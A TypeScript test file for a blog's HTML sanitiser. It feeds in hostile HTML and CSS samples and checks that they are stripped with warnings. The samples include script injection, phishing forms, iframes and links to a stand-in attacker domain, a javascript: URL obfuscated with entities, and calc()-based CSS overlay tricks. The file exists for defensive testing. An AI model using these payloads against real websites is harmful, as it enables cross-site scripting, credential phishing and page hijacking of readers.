import { describe, expect, it } from 'vitest'
import { attribute, elements, text, tokens } from '../../../test/support/html'
import { renderMarkdown, type MarkdownOptions } from '../pipeline'
import { embedOrigin, MAX_HTML_DEPTH } from '.'
import { filterStyle } from './style'

const EMBEDS = ['https://www.youtube.com', 'https://gist.github.com']

async function render(body: string, html: Partial<NonNullable<MarkdownOptions['html']>> = {}, frontMatter = '') {
  const warnings: string[] = []
  const out = await renderMarkdown(`---\ntitle: A post\n${frontMatter}---\n\n${body}\n`, {
    variables: {},
    siteUrl: 'https://blog.example.com',
    html: { embedOrigins: EMBEDS, warn: (line) => warnings.push(line), ...html },
  })
  return { html: out, warnings }
}

/** Each payload a hostile post might carry, and what the warning must name. */
const PAYLOADS = [
  { payload: '<script>alert(1)</script>', says: 'inline <script>' },
  { payload: '<script src="https://evil.example/x.js"></script>', says: '<script src="https://evil.example/x.js">' },
  { payload: '<script src="https://gist.github.com/a.js">alert(1)</script>', says: '<script src="https://gist.github.com/a.js">' },
  { payload: '<style>header { display: none }</style>', says: 'inline <style>' },
  { payload: '<meta http-equiv="refresh" content="0;url=https://evil.example">', says: '<meta http-equiv="refresh">' },
  { payload: '<base href="https://evil.example/">', says: '<base href="https://evil.example/">' },
  { payload: '<link rel="stylesheet" href="https://evil.example/x.css">', says: '<link href="https://evil.example/x.css">' },
  { payload: '<form action="https://evil.example"><input name="password"><button>Log in</button></form>', says: '<form>' },
  { payload: '<object data="https://evil.example/x.swf"></object>', says: '<object' },
  { payload: '<embed src="https://evil.example/x.swf">', says: '<embed src="https://evil.example/x.swf">' },
  { payload: '<img src="/a.png" onerror="alert(1)">', says: 'onerror on <img>' },
  { payload: '<a href="javascript:alert(1)">x</a>', says: 'href="javascript:alert(1)" on <a>' },
  { payload: '<a href=" jav&#x09;ascript:alert(1)">x</a>', says: 'on <a>' },
  { payload: '<iframe src="https://evil.example/frame"></iframe>', says: '<iframe src="https://evil.example/frame">' },
  { payload: '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/x"></iframe>', says: 'srcdoc on <iframe>' },
  { payload: '<svg><script>alert(1)</script></svg>', says: '<svg>' },
  { payload: '<div style="position: fixed; inset: 0; z-index: 9">over the page</div>', says: 'style "position" on <div>' },
  { payload: '<img src="data:text/html,<script>alert(1)</script>">', says: 'src="data:text/html' },
] as const

describe('the post HTML sanitiser', () => {
  it.each(PAYLOADS)('removes $payload and names it', async ({ payload, says }) => {
    const { html, warnings } = await render(`Text before.\n\n${payload}\n\nText after.`)
    expect(html).not.toMatch(/<script>|<style|<meta|<base|<link|<form|<input|<object|<embed|<svg|onerror|javascript:|srcdoc|position|evil\.example|text\/html/i)
    expect(html).toContain('Text after.')
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toContain(says)
  })

  it('names the post in the warning, one line for all of its removals', async () => {
    const { warnings } = await render('<script>a()</script> <script>b()</script> <img src="/x.png" onclick="c()">')
    expect(warnings).toEqual([expect.stringMatching(/^warning: .*: removed from the post's HTML: inline <script> ×2, onclick on <img>/)])
  })

  it('keeps what real posts use, and warns about nothing', async () => {
    const body = [
      '<figure id="fig-1" class="wide"><img src="/a.png" alt="A" width="10" height="5" srcset="/a.png 1x, /a@2x.png 2x"><figcaption>Caption</figcaption></figure>',
      '<details open><summary>More</summary>Hidden text</details>',
      '<video controls poster="/p.jpg" width="320"><source src="/v.mp4" type="video/mp4"><track kind="captions" src="/v.vtt" srclang="en"></video>',
      '<audio controls src="/a.mp3"></audio>',
      '<table><tr><td colspan="2" style="text-align: center; color: red">cell</td></tr></table>',
      '<iframe src="https://www.youtube.com/embed/abc" title="A talk" allowfullscreen></iframe>',
      '<script src="https://gist.github.com/someone/123.js"></script>',
      '<p><kbd>Ctrl</kbd> <abbr title="HyperText">HTML</abbr> <a href="mailto:a@example.com" data-x="1" aria-label="Mail">mail</a></p>',
      '- [x] done',
      '',
      'A claim.[^n]',
      '',
      '[^n]: The note.',
      '',
      '## A heading',
      '',
      '```js\nconst a = 1\n```',
    ].join('\n\n')
    const { html, warnings } = await render(body)
    expect(warnings).toEqual([])
    expect(elements(html, 'figure').map((f) => attribute(f, 'id'))).toEqual(['fig-1'])
    expect(elements(html, 'img').map((i) => attribute(i, 'srcSet'))).toEqual(['/a.png 1x, /a@2x.png 2x'])
    expect(elements(html, 'summary').map(text)).toEqual(['More'])
    expect(elements(html, 'source').map((s) => attribute(s, 'src'))).toEqual(['/v.mp4'])
    expect(elements(html, 'audio')).toHaveLength(1)
    expect(elements(html, 'td').map((td) => attribute(td, 'style'))).toEqual(['text-align: center; color: red'])
    expect(elements(html, 'iframe').map((f) => attribute(f, 'src'))).toEqual(['https://www.youtube.com/embed/abc'])
    expect(elements(html, 'script').map((s) => attribute(s, 'src'))).toEqual(['https://gist.github.com/someone/123.js'])
    expect(elements(html, 'input').map((i) => [i.properties.type, i.properties.checked, i.properties.disabled])).toEqual([['checkbox', true, true]])
    expect(elements(html, 'section').some((s) => s.properties.dataFootnotes !== undefined)).toBe(true)
    expect(elements(html, 'a').some((a) => tokens(a, 'className').includes('heading-anchor'))).toBe(true)
    // Shiki's own style attributes are added after the sanitiser and kept.
    expect(elements(html, 'span').some((s) => attribute(s, 'style')?.includes('--shiki-light'))).toBe(true)
    expect(html).toContain('Copy')
  })

  it('unwraps an unknown element, keeping its text, and says so', async () => {
    const { html, warnings } = await render('<marquee>Moving words</marquee>')
    expect(elements(html, 'marquee')).toEqual([])
    expect(html).toContain('Moving words')
    expect(warnings[0]).toContain('<marquee> (its text kept)')
  })

  it('keeps a post that opts in with trusted_html: true as written', async () => {
    const { html, warnings } = await render('<script>trusted()</script>', {}, 'trusted_html: true\n')
    expect(html).toContain('<script>trusted()</script>')
    expect(warnings).toEqual([])
  })

  it('keeps every post as written when the site trusts its HTML', async () => {
    const { html } = await render('<style>p { color: red }</style>', { trusted: true })
    expect(html).toContain('<style>')
  })

  it('stops the build under strictHtml, naming the field and the fix', async () => {
    await expect(render('<script>alert(1)</script>', { strict: true })).rejects.toThrow(/field "body": HTML that could run script .*inline <script>.*Fix: remove it, or set trusted_html: true/)
  })

  it(`fails a body nested more than ${MAX_HTML_DEPTH} elements deep, and passes one just inside`, async () => {
    await expect(render('<div>'.repeat(MAX_HTML_DEPTH + 5) + 'deep')).rejects.toThrow(/field "body": HTML elements are nested .*deep/)
    await expect(render('<div>'.repeat(50) + 'shallow')).resolves.toBeDefined()
  })
})

describe('embedOrigin', () => {
  it('gives the https origin of a URL, protocol-relative counting as https', () => {
    expect(embedOrigin('https://www.youtube.com/embed/x?y=1')).toBe('https://www.youtube.com')
    expect(embedOrigin('//gist.github.com/a.js')).toBe('https://gist.github.com')
  })
  it('gives nothing for http, other schemes or a relative path', () => {
    expect(embedOrigin('http://www.youtube.com/embed/x')).toBeUndefined()
    expect(embedOrigin('javascript:alert(1)')).toBeUndefined()
    expect(embedOrigin('/local.js')).toBeUndefined()
  })
})

describe('filterStyle', () => {
  it('keeps colour, alignment and spacing', () => {
    expect(filterStyle('color: red; text-align:center; margin: 0 auto')).toEqual({ kept: 'color: red; text-align: center; margin: 0 auto', removed: [] })
  })
  it('drops what can leave the post box or fetch anything', () => {
    const { kept, removed } = filterStyle('position: absolute; top: 0; z-index: 10; transform: scale(9); margin-top: -400px; background-color: url(https://x); color: blue; colo\\72: red')
    expect(kept).toBe('color: blue')
    expect(removed).toEqual(['position', 'top', 'z-index', 'transform', 'margin-top', 'background-color', 'colo\\72'])
  })
  // Issue 22, class 4: a sign behind calc() passed the old pattern and pulled a post over the header.
  it('reads values with a CSS parser: no negative margin in any spelling', () => {
    for (const style of ['margin-top: calc(-1 * 500px)', 'margin-top: calc(0px - 40em)', 'margin: min(-1px, 0px) 0', 'margin-top: clamp(-9em, -9em, 0em)', 'margin-top:-1px', 'margin: 0 0 0 -1em', 'margin-top: calc( 1px * (0 - 900) )', 'vertical-align: 3000px', 'vertical-align: calc(9em)', 'margin-top: var(--x)', 'color: red )']) {
      expect(filterStyle(style), style).toEqual({ kept: '', removed: [expect.any(String)] })
    }
  })
  it('keeps positive and computed sizes where no sign can move anything', () => {
    expect(filterStyle('margin: 0 auto 1em; width: calc(100% - 2em); padding: max(1em, 2vw); vertical-align: middle; letter-spacing: -0.02em; font-family: "a;b", serif; color: rgb(0 0 0 / 50%)').removed).toEqual([])
  })
})
